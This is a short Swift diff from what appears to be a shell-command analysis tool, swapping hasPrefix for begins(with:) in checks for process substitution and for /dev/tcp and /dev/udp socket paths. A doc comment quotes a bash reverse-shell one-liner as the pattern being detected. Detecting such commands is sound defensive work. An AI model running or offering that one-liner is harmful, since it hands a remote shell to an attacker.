@@ -15,7 +15,7 @@ enum ProgramSource {
         if let known = operand.known, Self.standardInputs.contains(known) {
             self = .standardInput
         } else if case .unknown(let unknown) = operand.pieces.first,
-            unknown.source.hasPrefix("<(") || unknown.source.hasPrefix("=(")
+            unknown.source.begins(with: "<(") || unknown.source.begins(with: "=(")
         {
             self = .substitution(operand)
         } else {
@@ -76,5 +76,5 @@ extension CarrierCall {
 
 extension CommandWord {
     /// The network as bash and ksh open it: `bash -i >& /dev/tcp/host/port 0>&1`.
-    fileprivate var isSocket: Bool { leadingText.map { $0.hasPrefix("/dev/tcp/") || $0.hasPrefix("/dev/udp/") } ?? false }
+    fileprivate var isSocket: Bool { leadingText.map { $0.begins(with: "/dev/tcp/") || $0.begins(with: "/dev/udp/") } ?? false }
 }
